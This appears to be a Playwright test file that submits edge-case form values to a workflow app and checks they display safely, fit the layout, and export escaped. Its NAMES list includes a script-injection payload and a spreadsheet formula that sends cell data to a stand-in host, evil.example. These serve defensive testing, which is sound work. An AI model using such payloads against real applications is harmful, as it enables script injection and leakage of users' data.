import { expect, test } from '@playwright/test';
import { expectFits, LOOKS } from '../looks';
import { call } from '../own-form';
import { downloaded, newCompany, openFirst, openPage, signIn } from '../support';

const notes = (slug: string) => `
workflow: ${slug}
name: "${'A workflow with a very long name '.repeat(6)}"
form:
  title: Notes
  fields:
    name: {kind: text, label: Name, max_length: 10000}
    email: {kind: email, label: E-mail}
steps:
  mail:
    use: mail/email.send
    with: {to: "\${{ input.email }}", subject: A note, text: "\${{ input.name }}"}
`;

const NAMES = {
  'ten thousand letters': 'x'.repeat(10_000),
  'ten thousand letters in words': 'A very long name '.repeat(600).slice(0, 9_999),
  'right to left, with emoji': 'شركة الاختبار (ACME) 👩‍👩‍👧 🇦🇹',
  'a script':
    '<img src=x onerror="document.title=\'broken\'"><script>document.title="broken"</script>',
  'a formula': '=HYPERLINK("http://evil.example/?"&A1, "Open")',
};

for (const { name: look, colorScheme, viewport, tag } of LOOKS)
  test.describe(look, { tag }, () => {
    test.use({ colorScheme, viewport, locale: 'en-GB', actionTimeout: 20_000 });

    test('whatever was answered is shown as text and fits', async ({ page }) => {
      test.setTimeout(240_000);
      const slug = `notes-${Date.now().toString(36)}`;
      await signIn(page);
      await call(page, 'POST', '/api/v1/workflows', notes(slug), 'application/yaml');
      await call(page, 'POST', `/api/v1/workflows/${slug}/publish`);
      for (const name of Object.values(NAMES)) {
        const { email } = newCompany();
        const data = JSON.stringify({ data: { name, email } });
        await call(page, 'POST', `/api/v1/workflows/${slug}/submissions`, data);
        await openPage(page, `/submissions?q=${encodeURIComponent(email)}`);
        await expect(page.getByText('One submission')).toBeVisible();
        const row = page.getByRole('row').filter({ has: page.getByRole('link', { name: /^WB-/ }) });
        await expect(row).toBeVisible();
        await expectFits(page);
        expect((await row.boundingBox())?.height).toBeLessThan(320);
        await openFirst(page);
        await expect(page.getByText(name.slice(0, 20)).first()).toBeVisible();
        const heading = page.getByRole('heading', { level: 1 });
        expect((await heading.boundingBox())?.height).toBeLessThan(130);
        await expectFits(page);
        expect(await page.title()).not.toBe('broken');
      }
      await openPage(page, `/workflows/${slug}`);
      await expect(page.getByRole('heading', { level: 1 })).toContainText('A workflow with a very');
      await expect(page.getByRole('columnheader', { name: 'Version', exact: true })).toBeVisible();
      await expect(page.locator('[aria-busy=true]')).toHaveCount(0);
      await expectFits(page);
      await openPage(page, `/submissions?workflow=${slug}`);
      await expect(page.getByText('5 submissions', { exact: true })).toBeVisible();
      await page
        .getByRole('checkbox', { name: /^Select WB-/ })
        .first()
        .check();
      await page.getByRole('button', { name: 'Export…' }).click();
      const link = page.getByRole('dialog').getByRole('link', { name: 'Download' });
      expect(await downloaded(page, () => link.click())).toContain(`'=HYPERLINK`);
    });
  });
